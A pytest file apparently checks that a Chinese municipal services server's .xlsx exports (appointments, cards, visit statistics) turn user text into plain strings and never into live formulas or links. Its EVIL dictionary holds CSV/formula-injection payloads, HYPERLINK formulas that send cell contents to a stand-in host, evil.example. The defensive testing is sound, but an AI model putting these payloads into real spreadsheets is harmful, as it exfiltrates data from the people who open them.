"""Issue 10.3: no .xlsx export turns user text into a live formula or link. Each export is read
back with openpyxl: the cell is a plain string that starts with `'`, for every dangerous start."""

from __future__ import annotations

import io
import pathlib

import openpyxl
import pytest
import sqlalchemy as sa

from server.core.xlsx import FORMULA_STARTS, cell_text
from server.db.tables import accounts, appointments, cards, services, venues, windows

EVIL = {p: f'{p}HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")' for p in FORMULA_STARTS}
ROOT = pathlib.Path(__file__).resolve().parents[2]


def cells(body: bytes) -> list:
    ws = openpyxl.load_workbook(io.BytesIO(body)).active
    return [c for row in ws.iter_rows() for c in row]


def assert_neutral(body: bytes, text: str) -> None:
    found = [c for c in cells(body) if isinstance(c.value, str) and text[1:] in c.value.replace("_x000D_", "\r")]
    assert found, f"{text!r} not in the export"
    for c in found:
        assert c.data_type == "s" and c.value.startswith("'"), (c.coordinate, c.value, c.data_type)
    assert not [c for c in cells(body) if c.data_type == "f"], "a formula cell in the export"
    assert not any(c.hyperlink for c in cells(body)), "a live link in the export"


def test_cell_text_prefixes_only_dangerous_starts():
    for p in FORMULA_STARTS:
        assert cell_text(p + "1") == "'" + p + "1"
    assert cell_text("张三") == "张三" and cell_text("http://x") == "http://x" and cell_text("") == ""


def test_every_export_uses_the_safe_workbook():
    """A new export (applications, …) must go through server/core/xlsx.py too."""
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "server").rglob("*.py")
                 if p.name != "xlsx.py" and ("xlsxwriter.Workbook" in p.read_text() or "openpyxl" in p.read_text())]
    assert offenders == []


async def test_appointment_export(api, deps):
    zhang = await api.login_sms("13800000001")
    clerk = await api.login_password("wendeng_window")
    svc = await deps.db.fetchval(sa.select(services.c.id).where(services.c.code == "child_school"))
    win = await deps.db.fetchval(sa.select(windows.c.id).where(windows.c.district == "文登区"))
    r = await api.post("/api/v1/appointments", {"service_id": str(svc), "window_id": str(win),
                                                "content": EVIL["="]}, token=zhang)
    assert r.status == 201, r
    for text in EVIL.values():  # the rest straight in the row: the export is what is under test
        await deps.db.execute(appointments.update().where(appointments.c.id == int(r.json["id"])).values(content=text))
        x = await api.get("/api/v1/staff/appointments/export.xlsx", token=clerk)
        assert x.status == 200, x
        assert_neutral(x.body, text)


async def test_card_export(api, deps):
    admin = await api.login_password("admin")
    r = await api.post("/api/v1/admin/cards/WH202400000001/disable", {"reason": EVIL["="]}, token=admin)
    assert r.status == 200, r
    for p, text in EVIL.items():
        await deps.db.execute(cards.update().where(cards.c.card_no == "WH202400000001").values(status_reason=text))
        await deps.db.execute(accounts.update().where(accounts.c.phone == "13800000001").values(name=p + "张三"))
        x = await api.get("/api/v1/admin/cards/export.xlsx", token=admin)
        assert x.status == 200, x
        assert_neutral(x.body, text)
        assert_neutral(x.body, p + "张三")


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
async def test_visit_stats_export(api, deps, prefix):
    zhang = await api.login_sms("13800000001")
    staff = await api.login_password("hospital_staff")
    admin = await api.login_password("admin")
    token = (await api.post("/api/v1/me/card/qr", token=zhang)).json["token"]
    assert (await api.post("/api/v1/venue/scan", {"token": token}, token=staff)).json["verdict"] == "ok"
    text = EVIL[prefix]
    await deps.db.execute(venues.update().where(venues.c.name == "威海市立医院").values(name=text))
    await deps.db.execute(services.update().where(services.c.code == "medical_green").values(name=prefix + "就医"))
    x = await api.get("/api/v1/admin/stats/visits.xlsx?group=day", token=admin)
    assert x.status == 200, x
    assert_neutral(x.body, text)
    assert_neutral(x.body, prefix + "就医")
